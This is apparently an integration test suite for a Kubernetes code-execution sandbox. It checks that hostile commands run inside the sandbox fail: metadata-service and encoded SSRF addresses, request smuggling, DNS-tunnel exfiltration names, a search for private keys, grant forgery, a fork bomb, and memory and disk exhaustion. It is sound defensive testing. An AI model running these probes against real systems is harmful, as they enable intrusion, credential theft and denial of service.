import { mkdtempSync } from 'node:fs';
import { readdir, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { sandboxdPb } from '@margay/contracts';
import { generateKeys, grpcClient, KeyRing } from '@margay/platform';
import { DIALS, HOST_COMMANDS, inOneGo, KERNEL, PROXY, sectionsOf, targets } from './abuse-probes';
import { AbuseSurroundings, NARROW_TENANT } from './abuse-surroundings';
import { TENANT, type Heard } from './executor-pods';
import { describeWith } from './features';
import { openForward } from './forward';
import { ClusterHarness } from './harness';
import { certificateOf } from './peer-certificate';

jest.setTimeout(120_000);

const cluster = new ClusterHarness();
let world: AbuseSurroundings;

beforeAll(async () => {
  world = await AbuseSurroundings.open(cluster);
}, 300_000);
afterAll(async () => {
  await world?.close();
  await cluster.stop();
});

const shell = (command: string, sessionId = 'abuser'): Promise<Heard> =>
  world.pods.shell(world.client, sessionId, command);

/** Runs a script in the sandbox; what it printed last, parsed. */
async function python<T>(script: string, ...args: string[]): Promise<T> {
  const { output } = await shell(asCommand(script, args));
  return parsed<T>(output);
}

const asCommand = (script: string, args: string[]): string =>
  `echo ${Buffer.from(script).toString('base64')} | base64 -d | python3 - ${args.map((arg) => `'${arg}'`).join(' ')}`;

function parsed<T>(output: string): T {
  try {
    return JSON.parse(output.trim().split('\n').at(-1) ?? '') as T;
  } catch (cause) {
    throw new Error(`the probe printed no result: ${output}`, { cause });
  }
}

const unguarded = (script: string, ...args: string[]) =>
  world.unguarded(['/usr/bin/python3', '-', ...args], script).then((output) => parsed<Record<string, string>>(output));

async function sandboxPod(sessionId: string): Promise<{ name: string; address: string; uid: string }> {
  const [name = ''] = (await world.pods.labelled(sessionId)).map((found) => found.replace('pod/', ''));
  const [address = '', uid = ''] = (
    await world.read(world.pods.boxes, `pod/${name}`, '{.status.podIP} {.metadata.uid}')
  ).split(' ');
  return { name, address, uid };
}

describeWith('networkpolicy')('a hostile command in a sandbox', () => {
  let inside: Record<string, string>;
  let outside: Record<string, string>;

  beforeAll(async () => {
    await Promise.all([shell('true'), shell('true', 'neighbour')]);
    const [node, dns, api] = await Promise.all([
      world.read('default', 'nodes', '{.items[0].status.addresses[?(@.type=="InternalIP")].address}'),
      world.read('kube-system', 'service/kube-dns', '{.spec.clusterIP}'),
      world.read('default', 'service/kubernetes', '{.spec.clusterIP}'),
    ]);
    const { address: neighbour } = await sandboxPod('neighbour');
    const asked = targets({ ...world.addresses, node, dns, api, neighbour });
    const script = JSON.stringify([asked, ['kubernetes.default.svc.cluster.local', 'localhost']]);
    inside = await python(DIALS, script);
    outside = await unguarded(DIALS, script);
  });

  it.each([
    ['pain 36: the metadata service', 'metadata'],
    ['node-local DNS', 'node-local DNS'],
    ['node-local DNS by TCP', 'node-local DNS by TCP'],
    ['the API server', 'API server'],
    ['the API server at the address of its node', 'API server at its node'],
    ['the kubelet', 'kubelet'],
    ['pain 36: port 53 by UDP, with data in a name', 'cluster DNS'],
    ['port 53 by TCP', 'cluster DNS by TCP'],
    ['an IDE', 'an IDE'],
    ['the store', 'store'],
    ['the broker', 'broker'],
    ['gRPC of tool-executor', 'tool-executor'],
  ])('does not reach %s, which answers a pod without guards', (_, target) => {
    expect(outside[target]).toMatch(/^(open|answered)$/);
    expect(inside[target]).toMatch(/^(timeout|ECONNREFUSED|EHOSTUNREACH|EPERM|ENETUNREACH)$/);
  });

  it('does not reach another sandbox, whose door is open to tool-executor', async () => {
    expect(inside['another sandbox']).toMatch(/^(timeout|ECONNREFUSED|EHOSTUNREACH)$/);
    expect((await shell('echo alive', 'neighbour')).output).toBe('alive\n');
  });

  it('resolves no name at all', () => {
    expect(outside['kubernetes.default.svc.cluster.local']).toMatch(/^\d/);
    expect(inside['kubernetes.default.svc.cluster.local']).toBe('unresolved');
  });
});

describe('a hostile command at the proxy', () => {
  let answers: Record<string, string>;
  let heard: string[];

  beforeAll(async () => {
    const { output } = await shell('echo $HTTP_PROXY', 'neighbour');
    const { username, password } = new URL(output.trim());
    await shell('true');
    answers = await python(PROXY, `${username}:${password}`);
    heard = (await shell('curl -s http://web.test/heard')).output.split('\n');
  });

  it('reaches what its policy names, so that the rest of these tests mean something', () => {
    expect(answers['web.test']).toBe('200');
    expect(answers['server name']).toBe('WRONG_VERSION_NUMBER');
    expect(heard).toContain('raw');
  });

  it.each(['169.254.169.254', '2852039166', '0xa9fea9fe', '0251.0376.0251.0376', '[::ffff:169.254.169.254]', '[fe80::a9fe:a9fe]', '127.1'])(
    'pain 36: does not reach the address %s', (literal) => expect(answers[literal]).toBe('403 egress_denied')); // prettier-ignore

  it.each([
    ['a name of the cluster', 'inner.test'],
    ['a name of which one address is inside', 'mixed.test'],
  ])('does not reach %s', (_, name) => expect(answers[name]).toBe('502 egress_address'));

  it('does not follow a name that turns to an inner address at its second look-up', () => {
    expect(answers['turning.test']).toEqual(['200', '502 egress_address']);
  });

  it('does not follow a redirect to an inner address', async () => {
    const { output } = await shell(`curl -s -L -o /dev/null -w '%{num_redirects} %{http_code}' http://web.test/astray`);
    expect(output).toBe('1 502');
  });

  it('cannot name one host to the proxy and another to the server', () => {
    expect(answers['other host']).toBe('hello web.test');
    expect(heard.filter((line) => line.includes('inner.test'))).toEqual([]);
  });

  it.each([
    ['no user', 'no user'],
    ["another sandbox's user", 'foreign user'],
    ['a token of its own making', 'wrong token'],
  ])('is not served with %s', (_, kind) => expect(answers[kind]).toBe('407 egress_identity'));

  it.each(['both lengths', 'two lengths', 'broken header', 'strange coding'])(
    'smuggles no request past the proxy by %s',
    (kind) => {
      expect(answers[kind]).not.toMatch(/^200/);
      expect(heard.filter((line) => line.includes('/smuggled'))).toEqual([]);
    },
  );

  it.each([
    ['with another server name inside', 'other server name', /UNRECOGNIZED_NAME|EOF|reset/i],
    ['to an inner address', 'tunnel inside', /^502 egress_address$/],
    ['to an address', 'tunnel literal', /^403 egress_denied$/],
  ])('opens no tunnel %s', (_, kind, refused) => {
    expect(answers[kind]).toMatch(refused);
    expect(heard.filter((line) => line === 'raw')).toHaveLength(1);
  });

  it('pain 36: asks no name server for a name that its policy does not allow, over HTTPS neither', async () => {
    const grant = { tenantId: NARROW_TENANT };
    const ask = (url: string) => `curl -s -m 8 -o /dev/null -w '%{http_code} %{http_connect}\\n' ${url}`;
    const command = [
      ask('http://web.test/'),
      ask('http://c2VjcmV0ZQ.tunnel.test/'),
      ask('https://dns.tunnel.test/dns-query'),
    ].join('; ');
    const { output } = await world.pods.call(world.client, 'narrow', { args: { command }, grant });
    expect(output).toBe('200 000\n403 000\n000 403\n');
    expect((await world.lookedUp()).filter((name) => name.includes('tunnel'))).toEqual([]);
  });
});

describe('a hostile command at the walls of its container', () => {
  let inside: Record<string, string>;
  let outside: Record<string, string>;
  let kernel: Record<string, string>;

  beforeAll(async () => {
    inside = sectionsOf((await shell(inOneGo(HOST_COMMANDS))).output);
    outside = sectionsOf(await world.unguarded(['/usr/bin/bash', '-s'], inOneGo(HOST_COMMANDS)));
    kernel = await python(KERNEL);
  });

  it.each([
    ['finds no token of the cluster', 'token', /^cat: .*No such file or directory$/],
    ['pain 37: finds no key in any environment, nor where services are', 'canary', /^0$/],
    ['writes nothing outside its folders', 'root', /^(touch: .*Read-only file system\n?)+$/],
    ['mounts nothing', 'mount', /^-1 EPERM$/],
    ['makes no namespaces', 'unshare', /^(unshare: [^\n]*(Operation not permitted|denied)\n?){2}$/],
    ['changes no root', 'chroot', /Operation not permitted/],
    ['sets nothing of the kernel', 'sysctl', /Read-only file system|Permission denied/],
    ['sees no devices of the node', 'devices', /^$/],
    ['sees no processes of the node', 'processes', /^0$/],
    ['has no power over its limits', 'cgroup', /^((find|mkdir): [^\n]*\n?)*$/],
    ['gains nothing by setuid', 'setuid', /^NoNewPrivs:\s+1$/],
    ['is nobody', 'identity', /^1000\nCapEff:\s+0{16}$/],
    ['gives nothing to root', 'chown', /Operation not permitted/],
    ['takes no precedence', 'priority', /Permission denied/],
  ])('%s, as a pod without guards can', (_, name, refused) => {
    expect(inside[name]).toMatch(refused);
    expect(outside[name]).not.toMatch(refused);
  });

  it('finds nothing of the container runtime', () => {
    expect(inside['runtime']?.match(/No such file or directory/g)).toHaveLength(3);
  });

  it.each(['keyctl', 'add_key', 'bpf', 'perf_event_open', 'userfaultfd', 'mount', 'setns', 'kexec_load', 'init_module', 'open_by_handle_at', 'reboot'])(
    'is refused the system call %s', (name) => expect(kernel[name]).toMatch(/^(EPERM|ENOSYS)$/)); // prettier-ignore

  it.each(['raw socket', 'packet socket', 'device'])('opens no %s', (name) => {
    expect(kernel[name]).toBe('EPERM');
    expect(kernel['stream socket']).toBe('opened');
  });

  it('pain 37: finds no key of a service in any file it can read', async () => {
    const { privateLine, publicLine } = await keyLines();
    const find = (line: string) => `grep -rlsF --exclude-dir=sys --exclude-dir=dev -- '${line}' /workspace /margay /home /tmp /run /var /etc /opt /proc/1/environ`; // prettier-ignore
    const { output } = await shell(
      `echo === private; ${find(privateLine)}; echo === public; ${find(publicLine)}; exit 0`,
    );
    const sections = sectionsOf(output);
    expect(sections['private']).toBe('');
    // The public one is there, so the search finds what there is.
    expect(sections['public']).toContain('/proc/1/environ');
  });

  async function keyLines() {
    const files = await readdir(world.pods.keysFolder);
    const file = files.find((name) => name.startsWith('tool-executor') && name.includes('key')) ?? '';
    const lineOf = (pem: string) => pem.split('\n')[1] ?? 'missing';
    const trust = JSON.parse(await readFile(`${world.pods.keysFolder}/trust.json`, 'utf8')) as Record<string, string[]>;
    return {
      privateLine: lineOf(await readFile(`${world.pods.keysFolder}/${file}`, 'utf8')),
      publicLine: lineOf(trust['tool-executor']?.[0] ?? ''),
    };
  }
});

describe('a grant that is not made for it', () => {
  const folder = mkdtempSync(join(tmpdir(), 'margay-strangers-'));
  let pod: { name: string; uid: string };
  let connect: () => Promise<{ hello: (grant: string) => Promise<unknown>; close: () => void }>;
  let keys: KeyRing;
  let strangers: KeyRing;
  let forward: Awaited<ReturnType<typeof openForward>>;

  beforeAll(async () => {
    await shell('true');
    pod = await sandboxPod('abuser');
    keys = await KeyRing.load(world.pods.keysFolder, 'tool-executor');
    await generateKeys(folder, ['tool-executor']);
    strangers = await KeyRing.load(folder, 'tool-executor');
    forward = await openForward(cluster, world.pods.boxes, pod.name, [7777]);
    const address = `127.0.0.1:${forward.ports[0]}`;
    const pinnedCertificate = await certificateOf(address);
    connect = async () => {
      const client = grpcClient(sandboxdPb.SandboxdDefinition, address, { pinnedCertificate });
      return { hello: (grant) => client.hello({ workspaceId: '' }, { grant, timeoutMs: 10_000 }), close: () => client.close() }; // prettier-ignore
    };
  });
  afterAll(async () => {
    forward?.close();
    await rm(folder, { recursive: true, force: true });
  });

  const usual = () => ({
    v: 1 as const,
    sandboxId: pod.uid,
    tenantId: TENANT,
    sessionId: 'abuser',
    storeGeneration: 0,
    epoch: 1,
    scope: ['execute' as const],
  });

  async function answer(token: string): Promise<string> {
    const client = await connect();
    try {
      await client.hello(token);
      return 'served';
    } catch (error) {
      return (error as { reason?: string }).reason ?? String(error);
    } finally {
      client.close();
    }
  }

  it('is served with one that is', async () => {
    expect(await answer(await keys.signSandboxGrant(usual()))).toBe('served');
  });

  it.each([
    ['another pod', { sandboxId: 'another' }, 'grant_audience'],
    ['another session', { sessionId: 'neighbour' }, 'sandbox_bound'],
    ['a lower epoch', { epoch: 0 }, 'stale_epoch'],
  ])('is refused for %s', async (_, more, reason) => {
    expect(await answer(await keys.signSandboxGrant({ ...usual(), ...more }))).toBe(reason);
  });

  it('is refused when it is forged, altered, or missing', async () => {
    expect(await answer(await strangers.signSandboxGrant(usual()))).toBe('grant_invalid');
    const [head, body, signature] = (await keys.signSandboxGrant(usual())).split('.');
    const other = Buffer.from(
      Buffer.from(body ?? '', 'base64url')
        .toString()
        .replace('"epoch":1', '"epoch":9'),
    ).toString('base64url');
    expect(await answer(`${head}.${other}.${signature}`)).toBe('grant_invalid');
    expect(await answer('')).toBe('grant_missing');
  });

  it('is refused once it has expired', async () => {
    expect(await answer(await keys.signSandboxGrant(usual(), -60))).toBe('grant_expired');
  });
});

describe('a command that takes all it can get', () => {
  beforeAll(() => shell('true'));

  it('pain 18: of 100 MB of output the caller gets a bounded part, the file holds all, and memory stays', async () => {
    const command = `head -c 100000000 /dev/zero | tr '\\0' x; echo end`;
    const { output, finished } = await shell(command);
    const result = JSON.parse(finished?.resultJson ?? '{}') as Record<string, string | number>;
    expect(output.length).toBeLessThanOrEqual(1024 * 1024);
    expect(String(result['stdout']).length).toBeLessThan(300_000);
    expect(result['stdout_bytes']).toBe(100_000_004);
    const file = String(result['stdout_file']);
    const range = `stat -c %s ${file}; tail -c 5 ${file}; grep VmHWM /proc/$PPID/status`;
    const [size, tail, peak = ''] = (await shell(range)).output.trim().split('\n');
    expect([size, tail]).toEqual(['100000004', 'xend']);
    expect(Number(/\d+/.exec(peak)?.[0])).toBeLessThan(250_000);
  });

  it('cannot outlive its cancel, whatever it leaves', async () => {
    const callId = world.pods.nextCallId('abuser');
    const command = `setsid env -i sh -c '(setsid env -i sleep 4711 >/dev/null 2>&1 &) &' & echo up; sleep 60`;
    const running = world.pods.call(world.client, 'abuser', { args: { command }, callId });
    const isUp = () => shell('cat /proc/[0-9]*/cmdline | tr "\\0" " " | grep -c "sleep 4711"');
    await cluster.until('it runs', async () => expect(Number((await isUp()).output)).toBeGreaterThan(0));
    const grant = await world.pods.grant('abuser');
    expect(await world.client.cancelCall({ callId, graceMs: 200 }, { grant })).toEqual({ state: 'cancelled' });
    expect((await running).finished?.status).toBe('cancelled');
    expect((await shell('for p in /proc/[0-9]*; do tr "\\0" " " < $p/cmdline; echo; done | grep -c "^sleep 4711"')).output).toBe('0\n'); // prettier-ignore
  });

  it('is held to a number of files that are open', async () => {
    const { output } = await shell(`python3 -c "
import os
n = 0
try:
    while True: os.dup(1); n += 1
except OSError as error: print(n < 5000, error.errno)"`);
    expect(output).toBe('True 24\n');
  });

  it('that forks without end is ended, and neither its neighbour nor its own session', async () => {
    // A debugger stops the first process, which then reaps nobody.
    await shell(`python3 -c "import ctypes; print(ctypes.CDLL(None).ptrace(16, 1, 0, 0))"; grep State /proc/1/status`);
    const bomb = shell(`python3 -c "
import os, time
while True:
    try:
        if os.fork() == 0: time.sleep(60); os._exit(0)
    except OSError: time.sleep(0.1)"`);
    expect((await shell('echo alive', 'neighbour')).output).toBe('alive\n');
    expect((await bomb).finished).toMatchObject({ status: 'killed', limitHit: 'processes' });
    expect((await shell('ls /proc | grep -c "^[0-9]"')).output).toMatch(/^\d{1,2}\n$/);
  });

  it('for memory is killed, and its session goes on in the same pod', async () => {
    const { name } = await sandboxPod('abuser');
    const hungry = `python3 -c "import time; x = b'x' * (250 << 20); time.sleep(15)"`;
    const command = `for n in 1 2 3; do ${hungry} & all="$all $!"; done; for p in $all; do wait $p || code=$?; done; exit $code`;
    const { finished } = await shell(command);
    // Where the whole group is killed, the container starts again.
    expect(finished).toMatchObject({ status: 'killed', limitHit: expect.stringMatching(/^(memory|restart)$/) });
    expect((await shell('echo alive')).output).toBe('alive\n');
    expect((await sandboxPod('abuser')).name).toBe(name);
  });

  it('for disk is told, then ended; nothing else is written until there is room, and the pod stays', async () => {
    const { name } = await sandboxPod('abuser');
    const fill = 'mkdir full; for n in $(seq 48); do head -c 10M /dev/zero | tr "\\0" x > full/$n; done';
    await shell(fill);
    const told = () => shell('sleep 3');
    await cluster.until('it is told', async () => expect((await told()).finished?.resultJson).toContain('% full'));
    const { finished } = await shell('for n in $(seq 100); do head -c 2M /dev/urandom >> full/slow; sleep 0.2; done');
    expect(finished).toMatchObject({ status: 'killed', limitHit: 'disk' });
    const edit = { toolId: 'file_edit_tool', args: { file_path: 'new', old_string: '', new_string: 'x' } };
    const refused = (await world.pods.call(world.client, 'abuser', edit)).finished;
    expect(refused).toMatchObject({ status: 'error', resultJson: expect.stringContaining('workspace_full') });
    await shell('rm -r full; sleep 4');
    expect((await world.pods.call(world.client, 'abuser', edit)).finished?.status).toBe('ok');
    expect((await sandboxPod('abuser')).name).toBe(name);
  });
});
